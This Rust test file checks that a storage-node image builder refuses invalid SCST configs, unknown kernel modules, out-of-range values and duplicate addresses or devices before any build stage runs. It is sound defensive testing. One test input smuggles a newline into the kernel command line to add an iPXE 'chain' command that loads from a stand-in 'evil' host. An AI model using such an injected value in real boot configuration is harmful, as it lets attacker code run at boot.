//! Issue #10, class 4: anything the build can know is checked by the build, not at
//! boot. Each test tries several inputs of the class on a throw-away project (fake
//! kernel tree, cache inside the project) and asserts the exact refusal (file, line,
//! column, field, value) and that nothing was built: no stage entry in the cache, the
//! output directory as it was. And `apply-scst` never reports a change it did not make.

mod common;

use common::initroot::{run, write};
use common::project::{text, Project};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Every file under `dir` with its bytes (empty for a missing directory).
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd {
            let p = e.unwrap().path();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.is_dir() {
                stack.push(p);
            } else if meta.is_file() {
                out.insert(p.clone(), std::fs::read(&p).unwrap());
            }
        }
    }
    out
}

/// The finished stage entries of the project's cache (`stages/STAGE/KEY`).
fn stage_entries(p: &Project) -> Vec<String> {
    let mut v = Vec::new();
    let stages = p.cache.join("stages");
    for s in std::fs::read_dir(&stages).into_iter().flatten() {
        let s = s.unwrap().path();
        for k in std::fs::read_dir(&s).unwrap() {
            let k = k.unwrap().path();
            if k.join(".complete").exists() {
                v.push(k.strip_prefix(&stages).unwrap().display().to_string());
            }
        }
    }
    v.sort();
    v
}

/// Builds and expects a refusal before any stage ran: `want` in stderr, no stage entry,
/// no output directory.
fn refused_before_any_stage(p: &Project, want: &[&str]) {
    let o = p.run(&["build", "recipes/test.toml"]);
    let e = stderr(&o);
    assert!(!o.status.success(), "{}", text(&o));
    for w in want {
        assert!(e.contains(w), "missing `{w}` in:\n{e}");
    }
    assert!(stage_entries(p).is_empty(), "{:?}", stage_entries(p));
    assert!(!p.root().join("out/test").exists());
}

fn set_node(p: &Project, text: &str) {
    std::fs::write(p.root().join("recipes/nodes/node.toml"), text).unwrap();
}

// ---- scst.conf: attributes valid for their handler/driver, values in range -----------

#[test]
fn scst_check_refuses_what_would_fail_at_boot() {
    let d = tempfile::tempdir().unwrap();
    let f = d.path().join("scst.conf");
    std::fs::write(
        &f,
        "# each of these passed `scst check` and failed at boot\n\
         setup_id zzz\n\
         HANDLER vdisk_fileio {\n\
         \tDEVICE d0 {\n\
         \t\tfilename /dev/sdb\n\
         \t\tnv_cahce 1\n\
         \t\tblocksize 1000\n\
         \t\tsize 10\n\
         \t}\n\
         \tDEVICE d1 {\n\
         \t\tfilename /dev/sdb\n\
         \t}\n\
         }\n\
         TARGET_DRIVER iscsi {\n\
         \tIncomingUser \"joe x\"\n\
         \tTARGET iqn.2026-11.org.example:t {\n\
         \t\tQueuedCommands 5000\n\
         \t\tLUN 0 d0\n\
         \t\tLUN 20000 d1\n\
         \t}\n\
         }\n",
    )
    .unwrap();
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_sanforge"))
        .args(["scst", "check"])
        .arg(&f)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    let fl = f.display();
    for want in [
        format!("{fl}:2: error: global attribute 'setup_id' value 'zzz' is not a number: expected 0 to 4294967295 (decimal, or 0x… hex)"),
        format!("{fl}:6: error: device attribute 'nv_cahce' is not an attribute of vdisk_fileio devices (did you mean 'nv_cache'?)"),
        format!("{fl}:7: error: device attribute 'blocksize' value '1000' is not a power of two from 512 to 65536"),
        format!("{fl}:8: error: device attribute 'size' of vdisk_fileio devices is read-only: it cannot be set"),
        format!("{fl}:11: error: device 'd1' uses /dev/sdb, which device 'd0' already uses (line 5): two devices writing one file or block device corrupt each other's data"),
        format!("{fl}:15: error: driver attribute 'IncomingUser' value 'joe <redacted>' has a CHAP secret of 1 character, out of range: expected 12 to 255 (iscsi-scstd refuses shorter ones)"),
        format!("{fl}:17: error: target attribute 'QueuedCommands' value '5000' is out of range: expected 1 to 2048"),
        format!("{fl}:19: error: LUN 20000 is out of range: expected 0 to 16383 (SCST_MAX_LUN)"),
    ] {
        assert!(out.lines().any(|l| l == want), "missing\n  {want}\nin\n{out}");
    }
    assert!(
        out.ends_with("2 devices, 1 targets, 0 device groups: 8 errors, 0 warnings\n"),
        "{out}"
    );
    // A check reads; it writes nothing.
    assert_eq!(std::fs::read_dir(d.path()).unwrap().count(), 1);
}

#[test]
fn an_invalid_scst_conf_of_the_node_fails_the_build_before_any_stage() {
    let p = Project::new();
    let node = std::fs::read_to_string(p.root().join("recipes/nodes/node.toml")).unwrap();
    set_node(&p, &format!("{node}\n[scst]\nconf = \"scst.conf\"\n"));
    let conf = p.root().join("recipes/nodes/scst.conf");
    for (body, want) in [
        (
            "HANDLER vdisk_nullio {\n\tDEVICE d0 {\n\t\tt10_dev_idd x\n\t}\n}\n",
            "scst.conf:3: error: device attribute 't10_dev_idd' is not an attribute of vdisk_nullio devices (did you mean 't10_dev_id'?)",
        ),
        (
            "setup_id 0x100000000\nHANDLER vdisk_nullio {\n\tDEVICE d0\n}\n",
            "scst.conf:1: error: global attribute 'setup_id' value '0x100000000' is out of range: expected 0 to 4294967295",
        ),
        (
            "HANDLER vdisk_nullio {\n\tDEVICE d0\n}\nTARGET_DRIVER iscsi {\n\tTARGET iqn.2026-11.org.example:t {\n\t\tHeaderDigest MD5\n\t\tLUN 0 d0\n\t}\n}\n",
            "scst.conf:6: error: target attribute 'HeaderDigest' value 'MD5' must be None, CRC32C or both, comma-separated",
        ),
    ] {
        std::fs::write(&conf, body).unwrap();
        refused_before_any_stage(&p, &[want]);
    }
}

// ---- modules named in a node config are in the image ----------------------------------

#[test]
fn a_module_the_image_lacks_fails_the_build_at_its_name_and_changes_nothing() {
    let p = Project::new();
    let o = p.run(&["build", "recipes/test.toml"]);
    assert!(o.status.success(), "{}", text(&o));
    let out = p.root().join("out/test");
    let before = snapshot(&out);
    let entries = stage_entries(&p);
    for (node, want) in [
        (
            "hostname = \"test-node\"\n\n[modules]\nload = [\n  \"target_core_mod\",\n  \"target_core_mdo\",\n]\n",
            "recipes/nodes/node.toml:6:3: [modules] load names module `target_core_mdo`, which kernel 6.1.0-t of this image neither has (modules.dep) nor builds in (modules.builtin) (did you mean `target_core_mod`?): check the name, or enable the module in the recipe's kernel config (=m or =y)",
        ),
        (
            "hostname = \"test-node\"\n\n[modules]\nload = [\"target_core_mod\"]\nparams = { qla2xxx_scst = \"qlini_mode=disabled\" }\n",
            "recipes/nodes/node.toml:5:12: [modules] params names module `qla2xxx_scst`, which kernel 6.1.0-t of this image neither has",
        ),
    ] {
        set_node(&p, node);
        let o = p.run(&["build", "recipes/test.toml"]);
        let e = stderr(&o);
        assert!(!o.status.success(), "{}", text(&o));
        assert!(e.contains(want), "missing `{want}` in:\n{e}");
        // The rootfs refused: no new cache entry, the outputs of the last good build.
        assert_eq!(stage_entries(&p), entries);
        assert_eq!(snapshot(&out), before, "the outputs changed");
    }
}

// ---- numbers that overflow, conflicts in the node configs ----------------------------

#[test]
fn source_date_epoch_beyond_32_bits_is_refused_by_the_recipe() {
    let p = Project::new();
    let recipe = std::fs::read_to_string(p.recipe()).unwrap();
    for (value, want) in [
        ("4294967296", "source-date-epoch 4294967296 is out of range: expected 0 to 4294967295 (2106-02-07T06:28:15Z; cpio and squashfs timestamps are 32-bit)"),
        ("-1", "source-date-epoch -1 is out of range: expected 0 to 4294967295"),
        ("99999999999999999999", "recipes/test.toml:5:21"),
    ] {
        std::fs::write(
            p.recipe(),
            recipe.replace("source-date-epoch = 1767225600", &format!("source-date-epoch = {value}")),
        )
        .unwrap();
        refused_before_any_stage(&p, &[want, "recipes/test.toml:5:"]);
    }
}

#[test]
fn a_kernel_command_line_that_is_not_one_line_is_refused_by_the_recipe() {
    // A newline would start a new command in boot.ipxe or a new key in a loader entry.
    let p = Project::new();
    let recipe = std::fs::read_to_string(p.recipe()).unwrap();
    let long = "a".repeat(2048);
    for (value, want) in [
        (
            r#""console=ttyS0\nchain http://192.0.2.1/evil""#,
            "[kernel] cmdline: contains the control character '\\n': expected one line of printable text",
        ),
        (
            r#""console=ttyS0\u0000""#,
            "[kernel] cmdline: contains the control character '\\0'",
        ),
        (
            &format!("\"{long}\"") as &str,
            "[kernel] cmdline: is 2048 bytes long: expected less than 2048",
        ),
    ] {
        std::fs::write(
            p.recipe(),
            recipe.replacen("[kernel]\n", &format!("[kernel]\ncmdline = {value}\n"), 1),
        )
        .unwrap();
        refused_before_any_stage(&p, &[want, "recipes/test.toml:"]);
    }
}

#[test]
fn two_backstores_on_one_file_and_duplicate_addresses_are_refused() {
    let p = Project::new();
    let base = "hostname = \"test-node\"\n[modules]\nload = [\"target_core_mod\"]\n";
    for (node, want) in [
        (
            format!("{base}[[network.interfaces]]\nname = \"eth0\"\naddresses = [\"192.0.2.15/24\"]\n[[network.interfaces]]\nname = \"eth1\"\naddresses = [\"192.0.2.15/25\"]\n"),
            "recipes/nodes/node.toml:9:14: address 192.0.2.15 on eth1 is already on eth0: an address can be on one interface only",
        ),
        (
            format!("{base}[[network.interfaces]]\nname = \"eth0\"\naddresses = [\"192.0.2.15/24\", \"192.0.2.15/24\"]\n"),
            "recipes/nodes/node.toml:6:31: address 192.0.2.15 on eth0 is already on eth0",
        ),
        (
            format!("{base}[lio]\nbackstores = [\n  {{ name = \"a\", kind = \"fileio\", path = \"/run/a.img\", size = \"1MiB\" }},\n  {{ name = \"b\", kind = \"fileio\", path = \"/run/a.img\", size = \"1MiB\" }},\n]\n"),
            "recipes/nodes/node.toml:7:41: backstore `b` uses /run/a.img, which backstore `a` already uses: two backstores on one file or device corrupt each other's data",
        ),
        (
            format!("{base}[lio]\nbackstores = [{{ name = \"a\", kind = \"ramdisk\", size = \"1MiB\" }}]\n[[lio.iscsi]]\niqn = \"iqn.2026-11.org.example:t\"\nportals = [\"0.0.0.0:3260\",\n  \"0.0.0.0:3260\"]\n"),
            "recipes/nodes/node.toml:9:3: portal 0.0.0.0:3260 is listed twice for `iqn.2026-11.org.example:t`",
        ),
    ] {
        set_node(&p, &node);
        refused_before_any_stage(&p, &[want]);
    }
}

#[test]
fn two_nodes_of_one_image_with_one_mac_are_refused() {
    let p = Project::new();
    let node = |n: &str, mac: &str| {
        format!("hostname = \"{n}\"\n[[network.interfaces]]\nname = \"eth0\"\nmac = \"{mac}\"\naddresses = [\"10.0.0.{}/24\"]\n", n.len())
    };
    write(
        p.root(),
        "cluster/alpha/node.toml",
        &node("alpha", "52:54:00:00:00:01"),
    );
    write(
        p.root(),
        "cluster/beta/node.toml",
        &node("bet", "52:54:00:00:00:01"),
    );
    let recipe = std::fs::read_to_string(p.recipe()).unwrap().replace(
        "config = \"recipes/nodes/node.toml\"",
        "config = \"recipes/nodes/node.toml\"\nconfigs = [\"cluster\"]",
    );
    std::fs::write(p.recipe(), recipe).unwrap();
    refused_before_any_stage(
        &p,
        &[
            "cluster/beta/node.toml:4:7: MAC address 52:54:00:00:00:01 of eth0 is also in",
            "cluster/alpha/node.toml: the init picks a node's config by MAC",
        ],
    );
}

// ---- apply-scst never reports a change it did not make ------------------------------

const NODE: &str = "hostname = \"scst1\"\n[scst]\nconf = \"scst.conf\"\n";

const A: &str = "HANDLER vdisk_fileio {\n\tDEVICE d0 {\n\t\tfilename /a\n\t\tusn 42\n\t}\n\tDEVICE d1 {\n\t\tfilename /b\n\t}\n}\nTARGET_DRIVER scst_local {\n\tTARGET scst_local_tgt {\n\t\tLUN 0 d0\n\t}\n}\n";

fn scst_tree() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    write(d, "etc/sanforge/node.toml", NODE);
    write(d, "etc/sanforge/scst.conf", A);
    // The backing files exist, as on a real node: the init leaves out a device whose
    // backing file is absent.
    for f in ["a", "b", "c"] {
        write(d, f, "");
    }
    let s = d.join("sys/kernel/scst_tgt");
    write(&s, "last_sysfs_mgmt_res", "0\n");
    write(&s, "handlers/vdisk_fileio/mgmt", "");
    write(&s, "targets/scst_local/mgmt", "");
    write(&s, "targets/scst_local/scst_local_tgt/enabled", "0\n");
    write(&s, "targets/scst_local/scst_local_tgt/luns/mgmt", "");
    std::fs::create_dir_all(s.join("devices")).unwrap();
    t
}

#[test]
fn apply_scst_names_what_it_cannot_change_live_and_records_what_scst_holds() {
    let t = scst_tree();
    let r = run(t.path(), &["boot"]);
    assert_eq!(
        r.log.last().map(String::as_str),
        Some("ready"),
        "{:?}",
        r.log
    );
    // A creation parameter changed, an attribute dropped, a LUN moved to another device.
    let b = A
        .replace("filename /a\n\t\tusn 42\n", "filename /c\n")
        .replace("LUN 0 d0", "LUN 0 d1");
    let fb = t.path().join("b.conf");
    std::fs::write(&fb, &b).unwrap();
    let r = run(t.path(), &["apply-scst", fb.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let notes: Vec<&String> = r
        .log
        .iter()
        .filter(|l| l.starts_with("not changed: "))
        .collect();
    for want in [
        "not changed: device 'd0': filename /a -> /c is a creation parameter and cannot change on a live device: not changed; apply with --prune (deletes and re-creates the device: its LUNs are removed and added again, initiators see a reset) or reboot",
        "not changed: device 'd0': attribute usn is no longer in the config, but SCST keeps 42 (sysfs cannot reset it): set it to the value you want, or reboot for the default",
        "not changed: target scst_local_tgt LUN 0: d0 0 -> d1 0 not changed (the LUN exists); apply with --prune (replaces the LUN; initiators see INQUIRY DATA HAS CHANGED) or reboot",
    ] {
        assert!(notes.iter().any(|l| l.as_str() == want), "missing\n  {want}\nin {notes:?}");
    }
    assert_eq!(notes.len(), 3, "{notes:?}");
    assert!(
        r.log
            .last()
            .unwrap()
            .ends_with(": 0 writes; 3 differences not applied (listed above)"),
        "{:?}",
        r.log
    );
    // No write claims the change, and the record says what SCST holds.
    assert!(!r.ops.iter().any(|o| o.contains("/c")), "{:?}", r.ops);
    let rec = std::fs::read_to_string(t.path().join("run/sanforge/scst.applied")).unwrap();
    assert!(
        rec.contains("filename /a") && !rec.contains("filename /c"),
        "{rec}"
    );
    // With --prune the device is re-created with the new parameter; nothing is left over
    // but the attribute SCST cannot reset.
    let r = run(t.path(), &["apply-scst", fb.to_str().unwrap(), "--prune"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.ops
            .iter()
            .any(|o| o.ends_with("mgmt add_device d0 filename=/c;")),
        "{:?}",
        r.ops
    );
    let notes: Vec<&String> = r
        .log
        .iter()
        .filter(|l| l.starts_with("not changed: "))
        .collect();
    assert!(notes.is_empty(), "{notes:?}");
}
